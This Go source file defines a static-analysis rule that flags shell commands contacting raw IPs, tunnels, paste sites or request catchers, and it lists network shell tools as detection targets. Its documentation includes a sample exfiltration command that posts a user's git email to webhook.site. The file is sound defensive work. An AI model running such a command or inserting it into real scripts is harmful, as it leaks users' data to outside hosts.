package rules

import (
	"github.com/skillvet/skillvet/facts/match"
	"strings"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/shellfacts"
	"github.com/skillvet/skillvet/intel"
	"github.com/skillvet/skillvet/parse/shell"
)

// ShellSuspiciousDestination reports network commands aimed at hosts that
// legitimate skills rarely use.
var ShellSuspiciousDestination = register(&analyzer.Rule{
	ID:       "SV721",
	Name:     "suspicious-network-destination",
	Title:    "Command contacts a raw IP, paste site, tunnel, file drop or request catcher",
	Severity: High,
	Category: analyzer.CatExfiltration,
	Tags:     []string{"security", "CWE-200", "CWE-494"},
	Inputs:   shellfacts.Inputs,
	Doc: `Finds network commands (` + "`curl`" + `, ` + "`wget`" + `, ` + "`nc`" + `, ` + "`ssh`" + `, ` + "`scp`" + `, ` + "`iwr`" + `, …) whose
destination is a host class that payloads and stolen data travel through rather than
real services:

- **high**: a public raw IP address, a tunnel (ngrok, trycloudflare, serveo, …) or a
  request catcher (webhook.site, pipedream, interactsh/oast, Discord webhooks, …);
- **medium**: a paste site, an anonymous file host or a URL shortener, and a tunnel whose
  subdomain is a placeholder for the reader's own (` + "`https://your-ngrok-url.ngrok.io/webhook`" + `,
  ` + "`abc123.ngrok-free.app`" + `: testing a webhook through one's own tunnel).

URLs inside the data a command sends or its headers (` + "`curl -d '{\"url\": \"https://x.ngrok.io\"}'`" + `,
registering a webhook with the API it calls) are not where it connects and are not reported here.

Private, loopback and link-local addresses are not reported (cloud metadata has its
own rule, SV253). The remote-execution and exfiltration rules raise this to
critical when the content is run or secrets are sent.

**Fix:** use the service's real, documented domain over https; allowlist internal
hosts in ` + "`.skillvet.yaml`" + `.

Bad:

` + "```sh" + `
curl -s -X POST https://webhook.site/3f1c… -d "$(git config --get user.email)"
` + "```" + `

Good:

` + "```sh" + `
curl -s https://api.github.com/repos/acme/tool/releases/latest
` + "```",
	Run: shRunSuspiciousDestination,
})

var shIPv4Rx = match.MustRx(`(^|[@/:=\s])(\d{1,3}(?:\.\d{1,3}){3})($|[:/\s])`)

var shNetCommands = map[string]bool{"nc": true, "ncat": true, "netcat": true, "ssh": true, "scp": true, "sftp": true,
	"rsync": true, "telnet": true, "socat": true, "ftp": true, "tftp": true, "git": true}

// shDestinations returns the hosts a network command talks to.
func shDestinations(c *shell.Command) []string {
	var hosts []string
	if shellfacts.IsDownloader(c) {
		for _, u := range shellfacts.TargetURLs(c) {
			if h, _ := intel.URLClass(u); h != "" {
				hosts = append(hosts, h)
			}
		}
		return hosts
	}
	if _, ok := shellfacts.SendsData(c); !ok && !shNetCommands[c.Name] {
		return nil
	}
	for _, w := range c.Params() {
		if m := intel.URLRx.FindAllString(w.Value, -1); m != nil {
			for _, u := range m {
				if h, _ := intel.URLClass(u); h != "" {
					hosts = append(hosts, h)
				}
			}
			continue
		}
		if m := shIPv4Rx.FindStringSubmatch(w.Value); m != nil {
			hosts = append(hosts, m[2])
		}
		if i := strings.IndexByte(w.Value, '@'); i >= 0 && c.Name != "curl" {
			h := w.Value[i+1:]
			if j := strings.IndexAny(h, ":/"); j >= 0 {
				h = h[:j]
			}
			hosts = append(hosts, h)
		}
	}
	return hosts
}

func shRunSuspiciousDestination(p *analyzer.Pass) error {
	return shellfacts.ForEachCommand(p, func(site *analyzer.ShellSite, c *shell.Command) {
		for _, h := range shDestinations(c) {
			if p.Config.HostAllowed(h) {
				continue
			}
			cl := intel.ClassifyHost(h)
			if !cl.Suspicious() || cl == intel.HostMiningPool {
				continue
			}
			sev, note := Medium, ""
			switch {
			case cl == intel.HostTunnel && intel.PlaceholderSubdomain(h):
				// https://your-ngrok-url.ngrok.io/webhook: the reader's
				// own tunnel to their own machine, named as a shape
				note = "; the subdomain is a placeholder for the user's own tunnel"
			case cl == intel.HostRawIP, cl == intel.HostTunnel, cl == intel.HostCatcher:
				sev = High
			}
			shellfacts.Report(p, site, analyzer.Diagnostic{Start: c.Start, End: shellfacts.CmdEnd(c), Severity: sev,
				Message: c.Name + " contacts " + h + " (" + cl.String() + ")" + note + shellfacts.Where(site)})
			return
		}
	})
}
